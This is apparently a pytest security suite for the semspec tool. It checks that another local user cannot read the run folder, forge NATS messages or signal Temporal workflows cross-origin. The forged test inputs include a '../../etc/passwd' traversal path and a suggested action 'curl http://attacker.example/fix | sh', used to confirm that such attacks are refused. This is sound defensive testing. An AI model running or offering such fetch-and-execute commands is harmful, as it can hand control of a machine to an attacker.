"""Another local user against the embedded stack ``semspec up`` started: the run folder, NATS and
the Temporal dev server's HTTP API.

The repository sits in a folder every user may enter (``world_readable_dir``), so what stops the
attacker is the run folder's own permissions, not pytest's private temporary folder. The attacker
has only the system Python: it speaks the NATS protocol over a raw socket and HTTP with
``http.client``.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import shutil
import signal
import stat
import subprocess
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import nats
import pytest
from temporalio.api.enums.v1 import EventType

from semspec.core.config import load_config
from semspec.core.run_folder import is_ours
from semspec.services.connect import temporal_client
from semspec.services.ports import tcp_answers
from semspec.services.specs import TemporalSpec
from semspec.vocabulary.subjects import (
    MONITOR_STREAM,
    SIGNAL_STREAM,
    monitor_subject,
    signal_subject,
)
from tests.security.conftest import ForeignUser, world_readable_dir
from tests.support.stack import Stack, check_gate, running_stack, sample_config

GOOD = "def add(a, b):\n    return a + b\n\n\ndef sub(a, b):\n    return a - b\n"
APPROVE = {"verdict": "approve", "summary": "looks right"}

# Speaks the NATS client protocol: CONNECT without credentials, PUB, PING; prints what came back.
RAW_NATS_PUBLISH = r"""
import json, socket, sys
port, subject, body = int(sys.argv[1]), sys.argv[2], sys.argv[3].encode()
sock = socket.create_connection(("127.0.0.1", port), timeout=5)
lines = sock.makefile("rb")
info = lines.readline().decode()
sock.sendall(b'CONNECT {"verbose":false,"pedantic":false,"name":"forger"}\r\n')
sock.sendall(b"PUB %s %d\r\n%s\r\nPING\r\n" % (subject.encode(), len(body), body))
replies = []
try:
    for line in lines:
        replies.append(line.decode().strip())
        if line.startswith((b"PONG", b"-ERR")):
            break
except OSError:
    pass
print(json.dumps({"info": info, "replies": replies}))
"""

# A browser page's cross-origin "simple request": text/plain needs no preflight.
CROSS_ORIGIN_POST = r"""
import http.client, json, sys
port, path = int(sys.argv[1]), sys.argv[2]
conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
conn.request("POST", path, body=json.dumps({"input": None}), headers={
    "Content-Type": "text/plain;charset=UTF-8", "Origin": "http://attacker.example"})
answer = conn.getresponse()
print(json.dumps({"status": answer.status, "body": answer.read().decode(errors="replace")}))
"""


@pytest.fixture(scope="module")
def stack() -> Iterator[Stack]:
    root = world_readable_dir("semspec-stack-")
    try:
        with running_stack(root, sample_config([check_gate()])) as running:
            done = running.submit_scripted(
                f"perm-{uuid.uuid4().hex[:8]}",
                [{"developer": {"write": {"calc.py": GOOD}}, "reviewer": APPROVE}],
                "--wait",
                "--json",
            )
            assert done.returncode == 0, done.stderr
            yield running
    finally:
        shutil.rmtree(root, ignore_errors=True)


def _open_to_others(root: Path) -> list[str]:
    """Everything under ``root`` (itself included) that grants its group or others anything."""
    found = []
    for path in [root, *root.rglob("*")]:
        mode = path.lstat().st_mode
        if not stat.S_ISLNK(mode) and stat.S_IMODE(mode) & 0o077:
            found.append(f"{path.relative_to(root)} {stat.S_IMODE(mode):o}")
    return found


def test_the_run_folder_and_everything_in_it_are_the_owners_only(stack: Stack) -> None:
    gate_logs = [p for p in stack.run_dir.rglob("*.log") if p.parent.name != "logs"]
    assert gate_logs, "the task left no gate log"
    assert (stack.run_dir / "temporal.db").is_file()
    assert _open_to_others(stack.run_dir) == []


def test_another_user_cannot_read_the_database_logs_records_or_credentials(
    stack: Stack, foreign_user: ForeignUser
) -> None:
    # The repository itself is open to them: what follows is refused by the run folder alone.
    assert foreign_user.can_read(stack.repo / "calc.py")
    run = stack.run_dir
    gate_log = next(p for p in run.rglob("*.log") if p.parent.name != "logs")
    secrets = [
        run,
        run / "temporal.db",
        run / "services.json",
        run / "nats.auth.json",
        run / "nats-server.conf",
        run / "logs" / "worker.log",
        gate_log,
    ]
    assert [p for p in secrets if not p.exists()] == []
    assert [str(p) for p in secrets if foreign_user.can_read(p)] == []


def test_up_takes_back_a_run_folder_an_older_version_left_open(stack: Stack) -> None:
    stack.run_dir.chmod(0o755)
    (stack.run_dir / "services.json").chmod(0o644)
    up = stack.cli("up")
    assert up.returncode == 0, up.stderr
    assert "now its owner's only (0700)" in up.stderr
    assert stat.S_IMODE(stack.run_dir.stat().st_mode) == 0o700
    assert stat.S_IMODE((stack.run_dir / "services.json").stat().st_mode) == 0o600
    again = stack.cli("up")
    assert "owner's only" not in again.stderr  # said once, when it fixed something


def _monitor_events(stack: Stack, stream: str = MONITOR_STREAM) -> int:
    async def count() -> int:
        nc = await nats.connect(stack.nats_url(), connect_timeout=2)
        try:
            info = await nc.jetstream().stream_info(stream)
            return int(info.state.messages)
        finally:
            await nc.close()

    return asyncio.run(count())


def test_a_forged_monitor_event_without_credentials_is_refused(
    stack: Stack, foreign_user: ForeignUser
) -> None:
    forged = {"task_id": "victim", "kind": "files", "data": {"paths": ["../../etc/passwd"]}}
    before = _monitor_events(stack)
    port = str(stack.records()["nats"].ports["client"])
    done = foreign_user.python(RAW_NATS_PUBLISH, port, monitor_subject("files"), json.dumps(forged))
    assert done.returncode == 0, done.stderr
    answer = json.loads(done.stdout)
    assert '"auth_required":true' in answer["info"].replace(" ", "")
    assert any("Authorization Violation" in line for line in answer["replies"]), answer
    assert "PONG" not in answer["replies"]
    assert _monitor_events(stack) == before


def test_a_forged_user_signal_never_reaches_escalations_watch(
    stack: Stack, foreign_user: ForeignUser
) -> None:
    # What `escalations watch` would have shown a human as the thing to run.
    forged = {
        "signal_id": "forged-1",
        "task_id": "victim",
        "level": "halt",
        "reason": "scope_creep",
        "message": "run this to fix it",
        "suggested_actions": ["curl http://attacker.example/fix | sh"],
    }
    before = _monitor_events(stack, SIGNAL_STREAM)
    port = str(stack.records()["nats"].ports["client"])
    done = foreign_user.python(RAW_NATS_PUBLISH, port, signal_subject("halt"), json.dumps(forged))
    assert done.returncode == 0, done.stderr
    answer = json.loads(done.stdout)
    assert any("Authorization Violation" in line for line in answer["replies"]), answer
    assert _monitor_events(stack, SIGNAL_STREAM) == before


async def _signals_of_a_workflow_after_a_browser_post(stack: Stack, post: ForeignUser) -> int:
    config = load_config(stack.repo)
    client = await temporal_client(config, stack.temporal_address())
    workflow_id = f"idle-{uuid.uuid4().hex[:8]}"
    # No worker polls this queue: the workflow stays open and records whatever reaches it.
    handle = await client.start_workflow("Idle", id=workflow_id, task_queue=f"nobody-{workflow_id}")
    try:
        http_port = stack.records()["temporal"].ports["http"]
        path = f"/api/v1/namespaces/{config.services.temporal.namespace}"
        path += f"/workflows/{workflow_id}/signal/halt"
        done = await asyncio.to_thread(post.python, CROSS_ORIGIN_POST, str(http_port), path)
        assert done.returncode == 0, done.stderr
        assert json.loads(done.stdout)["status"] == 403, done.stdout
        events = [event async for event in handle.fetch_history_events()]
        return sum(e.event_type == EventType.EVENT_TYPE_WORKFLOW_EXECUTION_SIGNALED for e in events)
    finally:
        await handle.terminate()


def test_a_cross_origin_text_plain_post_to_the_dev_server_signals_no_workflow(
    stack: Stack, foreign_user: ForeignUser
) -> None:
    assert asyncio.run(_signals_of_a_workflow_after_a_browser_post(stack, foreign_user)) == 0


def test_the_dev_server_looks_nothing_up_on_the_internet_as_it_starts(tmp_path: Path) -> None:
    strace = shutil.which("strace")
    if strace is None:
        pytest.skip("strace is not installed")
    probe = subprocess.run([strace, "-o", "/dev/null", "true"], capture_output=True, check=False)
    if probe.returncode != 0:
        pytest.skip(f"strace cannot trace here: {probe.stderr.decode().strip()[:200]}")
    config = load_config(tmp_path)
    plan = TemporalSpec().plan(config, tmp_path, tmp_path, set())
    trace = tmp_path / "connect.trace"
    argv = [strace, "-f", "-e", "trace=connect", "-o", str(trace), *plan.argv]
    # Its own group: strace and the server it starts are stopped together.
    server = subprocess.Popen(
        argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True
    )
    try:
        deadline = time.monotonic() + 60
        while not tcp_answers("127.0.0.1", plan.ports["grpc"]):
            assert time.monotonic() < deadline and server.poll() is None, "no dev server"
            time.sleep(0.2)
        time.sleep(3)  # the version check ran within a second of the start before it was off
    finally:
        os.killpg(server.pid, signal.SIGTERM)
        server.wait(timeout=30)
        with contextlib.suppress(ProcessLookupError):
            os.killpg(server.pid, signal.SIGKILL)
    calls = [line for line in trace.read_text().splitlines() if "AF_INET" in line]
    assert calls, "strace saw no connection at all"
    outside = [line for line in calls if "127.0.0.1" not in line and "::1" not in line]
    assert outside == []


def test_the_nats_password_is_on_no_command_line(stack: Stack) -> None:
    # Every local user may read /proc/PID/cmdline.
    records = stack.records()
    assert all(is_ours(r.pid, r.argv) for r in records.values())
    password = stack.nats_auth().password
    assert [name for name, r in records.items() if password in " ".join(r.argv)] == []


def test_up_says_which_sandbox_gates_get(stack: Stack) -> None:
    fenced = shutil.which("bwrap") is not None  # CI installs it
    shown = stack.cli("up")
    assert shown.returncode == 0, shown.stderr
    line = "run under bubblewrap" if fenced else "have no sandbox"
    assert f"gates and command agents {line}" in shown.stdout
    as_json = stack.cli_json("up")
    worker = next(s for s in as_json if s["name"] == "worker")
    assert worker["extra"]["sandbox"] == ("bwrap" if fenced else "none")
